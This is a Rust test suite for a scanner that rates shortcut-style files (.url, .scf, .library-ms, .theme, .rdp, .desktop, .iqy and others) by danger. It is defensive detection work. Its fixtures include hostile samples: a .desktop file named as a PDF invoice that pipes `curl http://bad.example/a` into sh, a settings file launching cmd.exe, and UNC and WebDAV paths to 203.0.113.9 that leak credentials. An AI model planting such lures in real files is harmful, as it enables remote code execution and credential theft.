//! Files that lead elsewhere, and what is told of each: `kind danger | text`.

use crate::{Budget, Danger, Keys, Kind, Opened, open, sample};

fn opened(text: &str) -> (Kind, Opened) {
    let kind = crate::kind(text.as_bytes());
    (kind, open(text.as_bytes(), kind, &Keys::default(), &mut Budget::default(), &mut |_| {}))
}

fn danger(text: &str) -> (Kind, Option<Danger>) {
    let (kind, opened) = opened(text);
    assert_eq!(opened.unread, [], "{text}");
    println!("{:?}", opened.deeds);
    (kind, opened.deeds.iter().map(|deed| deed.danger).max())
}

fn url(lines: &str) -> String {
    format!("[InternetShortcut]\r\n{}\r\n", lines.replace('|', "\r\n"))
}

#[test]
fn internet_shortcuts() {
    for (lines, expected) in [
        ("URL=https://site.example/page?a=1", Danger::Harmless),
        ("URL=https://site.example/|IconFile=https://site.example/favicon.ico|IconIndex=0", Danger::Harmless),
        ("URL=file:///D:/資料/見積.xlsx", Danger::Harmless),
        ("URL=file://fs01/共有/規程.docx|IconFile=C:\\Windows\\System32\\url.dll", Danger::Harmless),
        ("URL=mailto:info@midori.example", Danger::Harmless),
        ("URL=https://site.example/setup.exe", Danger::Active),
        ("URL=\\\\fs01\\tools\\setup.exe", Danger::Active),
        ("URL=https://site.example/|IconFile=\\\\fs02\\icons\\a.ico", Danger::Active),
        ("URL=https://site.example/|IconFile=\\\\203.0.113.9\\a.ico", Danger::Dangerous),
        ("URL=file://203.0.113.9@80/a/b.url", Danger::Dangerous),
        ("URL=\\\\files.example@SSL\\DavWWWRoot\\a.vbs", Danger::Dangerous),
        ("URL=mhtml:http://bad.example/a.html!x-usc:http://bad.example/b", Danger::Dangerous),
        ("URL=javascript:alert(1)", Danger::Dangerous),
        ("URL=search-ms:query=a&crumb=location:%5C%5Cfiles.example%5Ca", Danger::Dangerous),
        (
            "URL=C:\\Program Files\\Internet Explorer\\iediagcmd.exe|WorkingDirectory=\\\\files.example@80\\a",
            Danger::Dangerous,
        ),
    ] {
        assert_eq!(danger(&url(lines)), (Kind::UrlShortcut, Some(expected)), "{lines}");
    }
}

#[test]
fn other_files_that_lead_elsewhere() {
    let library = |place: &str| {
        format!(
            "<?xml version=\"1.0\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><iconReference>imageres.dll,-1003</iconReference><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>{place}</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>"
        )
    };
    let setting = |link: &str| {
        format!(
            "<?xml version=\"1.0\"?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>{link}</DeepLink></ApplicationInformation></SearchableContent></PCSettings>"
        )
    };
    for (text, kind, expected) in [
        ("[Shell]\nCommand=2\nIconFile=explorer.exe,3\n[Taskbar]\nCommand=ToggleDesktop\n".into(), Kind::Scf, Danger::Harmless),
        ("[Shell]\nCommand=2\nIconFile=\\\\203.0.113.9\\a.ico\n".into(), Kind::Scf, Danger::Dangerous),
        (library("\\\\203.0.113.9\\share"), Kind::LibraryMs, Danger::Dangerous),
        (library("http://files.example/webdav"), Kind::LibraryMs, Danger::Dangerous),
        (library("\\\\fs01\\share"), Kind::LibraryMs, Danger::Active),
        (setting("%windir%\\system32\\control.exe /name Microsoft.System"), Kind::SettingContent, Danger::Harmless),
        (setting("%windir%\\system32\\cmd.exe /c start calc"), Kind::SettingContent, Danger::Dangerous),
        ("[Theme]\nDisplayName=a\n[VisualStyles]\nPath=\\\\203.0.113.9\\a.msstyles\n".into(), Kind::Theme, Danger::Dangerous),
        ("[Theme]\nDisplayName=a\n[boot]\nSCRNSAVE.EXE=%windir%\\system32\\scrnsave.scr\n".into(), Kind::Theme, Danger::Harmless),
        ("[Theme]\nDisplayName=a\n[boot]\nSCRNSAVE.EXE=C:\\Users\\Public\\a.scr\n".into(), Kind::Theme, Danger::Dangerous),
        ("screen mode id:i:2\nfull address:s:192.168.1.20\ndrivestoredirect:s:\n".into(), Kind::Rdp, Danger::Harmless),
        ("screen mode id:i:2\nfull address:s:ts.midori.example:3389\nredirectclipboard:i:1\n".into(), Kind::Rdp, Danger::Active),
        ("screen mode id:i:2\nfull address:s:cloud.example\ndrivestoredirect:s:*\nremoteapplicationmode:i:1\nremoteapplicationprogram:s:||Test\nsignature:s:AAAA\n".into(), Kind::Rdp, Danger::Dangerous),
        ("[Desktop Entry]\nType=Application\nName=App\nExec=libreoffice --writer %U\n".into(), Kind::DesktopEntry, Danger::Active),
        ("[Desktop Entry]\nType=Link\nName=Site\nURL=https://site.example/\n".into(), Kind::DesktopEntry, Danger::Harmless),
        ("[Desktop Entry]\nType=Application\nName=請求書.pdf\nExec=sh -c \"curl http://bad.example/a | sh\"\n".into(), Kind::DesktopEntry, Danger::Dangerous),
        ("WEB\n1\nhttps://intranet.midori.example/list\n".into(), Kind::Iqy, Danger::Active),
        ("WEB\n1\nhttp://203.0.113.9/a.dat\n".into(), Kind::Iqy, Danger::Dangerous),
        ("XLODBC\n1\nDRIVER=SQL Server;SERVER=db01;UID=a;PWD=secret\nSELECT * FROM t\n".into(), Kind::Dqy, Danger::Active),
        ("<?xml version=\"1.0\"?><jnlp codebase=\"https://apps.example/\"><security><all-permissions/></security></jnlp>".into(), Kind::Jnlp, Danger::Active),
        ("<html xmlns:o=\"urn:schemas-microsoft-com:office:office\"><head><meta http-equiv=Content-Type content=\"text/x-ms-odc; charset=utf-8\"><xml id=msodc><odc:OfficeDataConnection xmlns:odc=\"urn:schemas-microsoft-com:office:odc\"><odc:Connection odc:Type=\"OLEDB\"><odc:ConnectionString>Provider=SQLOLEDB;Data Source=db01</odc:ConnectionString></odc:Connection></odc:OfficeDataConnection></xml></head></html>".into(), Kind::Dqy, Danger::Active),
        ("<?xml version=\"1.0\"?><persistedQuery version=\"1.0\"><query><kindList/><scope><include path=\"\\\\203.0.113.9\\a\"/></scope></query></persistedQuery>".into(), Kind::SearchConnector, Danger::Dangerous),
    ] as [(String, Kind, Danger); 22] {
        assert_eq!(danger(&text), (kind, Some(expected)), "{text}");
    }
}

#[test]
fn secrets_are_not_shown() {
    let (_, opened) = opened("XLODBC\n1\nDRIVER=SQL Server;SERVER=db01;UID=a;PWD=hush\n");
    assert!(!format!("{opened:?}").contains("hush"));
}

#[test]
fn cut_files_end() {
    for kind in Kind::ALL.iter().filter(|kind| super::reads(**kind)) {
        let bytes = sample(*kind).unwrap();
        for end in 0..bytes.len() {
            let _ = open(&bytes[..end], *kind, &Keys::default(), &mut Budget::default(), &mut |_| {});
        }
        let mut poor = Budget { work_left: 1, ..Budget::default() };
        let opened = open(&bytes, *kind, &Keys::default(), &mut poor, &mut |_| {});
        assert!(!opened.unread.is_empty(), "{}", kind.id());
    }
}
